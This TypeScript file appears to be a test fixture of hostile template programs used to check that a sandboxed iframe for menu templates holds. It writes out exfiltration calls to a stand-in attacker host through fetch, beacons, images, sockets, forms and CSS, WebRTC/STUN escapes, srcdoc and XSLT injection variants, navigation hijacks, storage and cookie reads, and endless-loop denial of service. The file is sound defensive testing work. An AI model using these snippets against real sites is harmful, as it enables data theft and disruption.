/** Programs that try to get out of the frame, read what is not theirs, or remove the menu. */
export type Attack = {
  name: string
  /** Runs in the component's effect; EVIL and <evil> are the address of an attacker's server, <ear> its STUN address. */
  effect?: string
  /** Runs while the component renders. */
  render?: string
  /** Runs when the file is loaded. */
  load?: string
}

const leak = (read: string) => `try { const read = ${read}; leak(String(read)) } catch {}`

const sending: Attack[] = [
  { name: 'fetch', effect: "fetch(EVIL + 'fetch', { mode: 'no-cors' }).catch(() => {})" },
  {
    name: 'XMLHttpRequest',
    effect: "const x = new XMLHttpRequest(); x.open('POST', EVIL + 'xhr'); x.send('menu')",
  },
  { name: 'beacon', effect: "navigator.sendBeacon(EVIL + 'beacon', 'menu')" },
  { name: 'picture', effect: "new Image().src = EVIL + 'picture'" },
  { name: 'WebSocket', effect: "new WebSocket(EVIL.replace('http', 'ws') + 'socket')" },
  { name: 'EventSource', effect: "new EventSource(EVIL + 'events')" },
  { name: 'dynamic import', effect: "import(EVIL + 'module.js').catch(() => {})" },
  { name: 'script element', effect: "add('script', { src: EVIL + 'script.js' })" },
  {
    name: 'inline script',
    effect:
      "add('script', { textContent: `new Image().src = '<evil>inline'; parent.postMessage({ leaked: 'inline' }, '*')` })",
  },
  {
    name: 'form',
    effect: "add('form', { action: EVIL + 'form', method: 'post' }).submit()",
  },
  {
    name: 'style sheet',
    effect:
      "add('style', { textContent: `@import '<evil>import.css'; main { background: url(<evil>background) }` })",
  },
  { name: 'font', effect: "new FontFace('Evil', `url(<evil>font)`).load().catch(() => {})" },
  { name: 'video', effect: "add('video', { src: EVIL + 'video', autoplay: true })" },
  {
    name: 'link elements',
    effect:
      "for (const rel of ['stylesheet', 'prefetch', 'preload', 'icon', 'manifest']) add('link', { rel, as: 'image', href: EVIL + rel })",
  },
  {
    name: 'object and embed',
    effect: "add('object', { data: EVIL + 'object' }); add('embed', { src: EVIL + 'embed' })",
  },
  { name: 'frame within', effect: "add('iframe', { src: EVIL + 'frame' })" },
  {
    name: 'frame with a document of its own',
    effect:
      "add('iframe', { srcdoc: `<img src='<evil>srcdoc'><script>new Image().src = '<evil>srcdoc-script'</` + 'script>' })",
  },
  { name: 'eval', effect: "try { (0, eval)(`new Image().src = '<evil>eval'; leak('eval')`) } catch {}" },
  {
    name: 'Function',
    effect: "try { new Function('leak', 'leak(1)')(leak) } catch {} setTimeout(`leak(2)`)",
  },
  {
    name: 'worker',
    effect: "try { new Worker(URL.createObjectURL(new Blob([`fetch('<evil>worker')`]))) } catch {}",
  },
  {
    name: 'own server',
    effect: "fetch('/api/public/stats').then(() => leak('own'), () => {}); new Image().src = '/api/docs'",
  },
]

/** Calls between browsers, which no policy forbids: wherever they can be made, a packet reaches the stranger. */
const calling: Attack[] = [
  {
    name: 'call between browsers',
    effect:
      'for (const name of ["RTCPeerConnection", "webkitRTCPeerConnection"]) attempt(() => call(globalThis[name]))',
  },
  {
    name: 'call from a page within',
    effect: `
      const text = '<script src="' + document.scripts[1].src + '"></' + 'script>'
      const page = '<iframe srcdoc="' + text.replaceAll('"', '&quot;') + '"></iframe>'
      const frame = () => document.createElement('iframe')
      const show = (element) => document.body.append(element)
      attempt(() => show(Object.assign(frame(), { srcdoc: text })))
      attempt(() => { const one = frame(); one.setAttribute('srcdoc', text); show(one) })
      attempt(() => { const one = frame(); one.setAttributeNS(null, 'srcdoc', text); show(one) })
      attempt(() => {
        const [one, attribute] = [frame(), document.createAttribute('srcdoc')]
        attribute.value = text
        one.setAttributeNode(attribute)
        show(one)
      })
      attempt(() => { const one = frame(); show(one); one.srcdoc = ''; one.attributes.srcdoc.value = text })
      attempt(() => { add('div', {}).innerHTML = page })
      attempt(() => { add('div', {}).setHTMLUnsafe(page) })
      attempt(() => { add('div', {}).outerHTML = page })
      attempt(() => add('div', {}).insertAdjacentHTML('beforeend', page))
      attempt(() => { add('div', {}).attachShadow({ mode: 'closed' }).innerHTML = page })
      attempt(() => show(document.createRange().createContextualFragment(page)))
      attempt(() => {
        const template = document.createElement('template')
        template.innerHTML = page
        show(template.content.cloneNode(true))
      })
      attempt(() => show(document.adoptNode(new DOMParser().parseFromString(page, 'text/html').body.firstChild)))
      attempt(() => show(document.adoptNode(Document.parseHTMLUnsafe(page).body.firstChild)))
      attempt(() => { const other = document.implementation.createHTMLDocument(''); other.write(page); show(other.body.firstChild) })
      attempt(() => document.write(page))`,
  },
  {
    name: 'call from a page within that a style sheet makes',
    effect: `
      const XSL = 'http://www.w3.org/1999/XSL/Transform'
      const sheet = document.implementation.createDocument(XSL, 'xsl:stylesheet')
      const within = (parent, element, attributes) => {
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        parent.append(element)
        return element
      }
      sheet.documentElement.setAttribute('version', '1.0')
      const rule = within(sheet.documentElement, sheet.createElementNS(XSL, 'xsl:template'), { match: '/' })
      const frame = within(rule, sheet.createElement('iframe'), {})
      const page = within(frame, sheet.createElementNS(XSL, 'xsl:attribute'), { name: 'srcdoc' })
      page.textContent = '<script src="' + document.scripts[1].src + '"></' + 'script>'
      attempt(() => {
        const processor = new XSLTProcessor()
        processor.importStylesheet(sheet)
        document.body.append(processor.transformToFragment(sheet, document))
      })`,
  },
  {
    name: 'call through a frame within',
    effect: `
      attempt(() => call(add('iframe', {}).contentWindow.RTCPeerConnection))
      for (const src of ['javascript:0', 'data:text/html,0', location.href, URL.createObjectURL(new Blob(['0']))])
        attempt(() => { const { contentWindow } = add('iframe', { src }); setTimeout(() => attempt(() => call(contentWindow.RTCPeerConnection)), 500) })
      attempt(() => call(open('', '_blank').RTCPeerConnection))`,
  },
]

const leading: Attack[] = [
  { name: 'self-navigation', effect: "location.href = EVIL + 'self'" },
  { name: 'self-navigation to our own pages', effect: "location.href = '/api/docs'" },
  {
    name: 'meta refresh',
    effect: "add('meta', { httpEquiv: 'refresh', content: '0;url=' + EVIL + 'refresh' })",
  },
  {
    name: 'top navigation',
    effect: "try { top.location.href = EVIL + 'top' } catch {} try { open(EVIL + 'top', '_top') } catch {}",
  },
  {
    name: 'popup',
    effect: "open(EVIL + 'popup'); add('a', { href: EVIL + 'link', target: '_blank' }).click()",
  },
  {
    name: 'unasked call',
    effect:
      "for (let n = 0; n < 50; n++) { parent.postMessage({ type: 'call' }, '*'); parent.postMessage({ type: 'map' }, '*') }",
  },
]

const reading: Attack[] = [
  { name: 'storage', effect: leak('localStorage.getItem("secret")') + leak('sessionStorage.length') },
  { name: 'database', effect: leak('indexedDB.open("x") && "opened"') + leak('caches && caches.open') },
  { name: 'cookie', effect: leak('document.cookie = "a=1"') },
  {
    name: 'parent',
    effect: leak('parent.document.title') + leak('parent.localStorage.length') + leak('top.location.href'),
  },
  {
    name: 'service worker',
    effect:
      "try { navigator.serviceWorker.register('/t/sw.js').then(() => leak('worker'), () => {}) } catch {}",
  },
]

const taking: Attack[] = [
  { name: 'endless loop', effect: 'for (;;) {}' },
  { name: 'endless loop while loading', load: 'for (;;) {}' },
  {
    name: 'endless promises',
    effect: 'const again = () => Promise.resolve().then(again); again()',
  },
  {
    name: 'endless rendering',
    render: 'const [, set] = React.useState(0); set(Math.random())',
  },
  {
    name: 'huge document',
    effect: "for (let n = 0; n < 3e6; n++) document.body.append(document.createElement('p'))",
  },
  { name: 'crash', render: "throw new Error('no menu today')" },
  { name: 'crash while loading', load: "throw new Error('no menu today')" },
  { name: 'blank page', render: 'return null' },
  {
    name: 'ready word of its own, then silence',
    load: "parent.postMessage({ type: 'ready', height: 600 }, '*'); for (;;) {}",
  },
  { name: 'silence once it is shown', effect: 'setTimeout(() => { for (;;) {} }, 1000)' },
]

export const attacks = { sending, calling, leading, reading, taking }

type Where = {
  evil: string
  ear: string
  /** Begins when the page answers that it knows of the start: a program may take itself away at once. */
  waitsForGo?: boolean
}

/** A template file as the frame loads it, without the guards that an upload adds: the frame alone must hold. */
export const hostileFile = (attack: Attack, { evil, ear, waitsForGo = false }: Where) =>
  fileOf(attack, waitsForGo).replaceAll('<evil>', evil).replaceAll('<ear>', ear)

const begin = (waitsForGo: boolean) =>
  waitsForGo ? "addEventListener('message', ({ data }) => { if (data === 'go') effect() })" : 'effect()'

const fileOf = ({ load = '', render = '', effect = '' }: Attack, waitsForGo: boolean) => `
function call(Connection) {
  const line = (globalThis.line = new Connection({ iceServers: [{ urls: 'stun:<ear>' }] }))
  line.createDataChannel('menu')
  line.createOffer().then((offer) => line.setLocalDescription(offer))
}
const attempt = (work) => { try { work() } catch {} }
// Loaded again in a page where our own script has never been.
if (!globalThis.thelaTemplate) call(RTCPeerConnection)
thelaTemplate(function (require, module, exports, React) {
  const EVIL = '<evil>'
  const leak = (leaked) => parent.postMessage({ leaked }, '*')
  const add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties))
  ${load}
  module.exports.default = function Hostile({ menuItems }) {
    ${render}
    const effect = () => { ${effect} }
    React.useEffect(() => { parent.postMessage({ started: true }, '*'); ${begin(waitsForGo)} }, [])
    return React.createElement('main', null, menuItems.map((item) => React.createElement('p', { key: item.id }, item.name)))
  }
})`
